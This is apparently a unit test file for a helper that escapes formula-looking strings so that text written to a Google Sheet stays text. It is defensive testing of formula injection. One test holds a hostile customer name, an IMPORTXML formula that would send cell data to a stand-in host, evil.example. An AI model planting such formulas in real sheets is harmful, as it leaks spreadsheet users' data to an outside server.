/** Strings written to a sheet stay text: formula-looking text gets Sheets' apostrophe escape. */
import { literal, literalRows } from '../../../src/core/sheet/literal-text';
import { standInContext, act } from '../../helpers/stand-in-context';

describe('literal text', () => {
  it.each([
    ['=IMPORTXML("http://x","//a")', `'=IMPORTXML("http://x","//a")`],
    ['+cmd', `'+cmd`],
    ['-offer', `'-offer`],
    ['- 30% off', `'- 30% off`],
    ['-', `'-`],
    ['@SUM(A1:A3)', `'@SUM(A1:A3)`],
    ['\t=1+2', `'\t=1+2`],
    ['\r=1+2', `'\r=1+2`],
    ['-5 ', `'-5 `],
    ['-5', '-5'],
    ['+1,000.50', '+1,000.50'],
    ['-12%', '-12%'],
    ["'=already", "'=already"],
    ['a=b', 'a=b'],
    ['', ''],
  ])('%p → %p', (input, output) => expect(literal(input)).toBe(output));

  it('leaves numbers, dates and booleans alone', () => {
    const d = new Date('2026-11-20T00:00:00Z');
    expect(literalRows([[5, d, true, null]])).toEqual([[5, d, true, null]]);
  });

  it('keeps a hostile sender name as text when the manager adds them to the sheet', () => {
    const w = standInContext([
      ['Email', 'Name'],
      ['a@x.example', 'A'],
    ]);
    const name = '=IMPORTXML("http://evil.example/?"&A2,"//a")';
    act(w.ctx(), 'addCustomer', { email: 'evil@evil.example', name });
    const rows = w.ss.sheet('Customers')!.toValues();
    expect(rows[2]).toEqual(['evil@evil.example', name]);
    act(w.ctx(), 'saveNote', { email: 'evil@evil.example' }, { note: '-wants a refund' });
    expect(w.ss.sheet('Notes')!.toValues()[1]![3]).toBe('-wants a refund');
  });
});
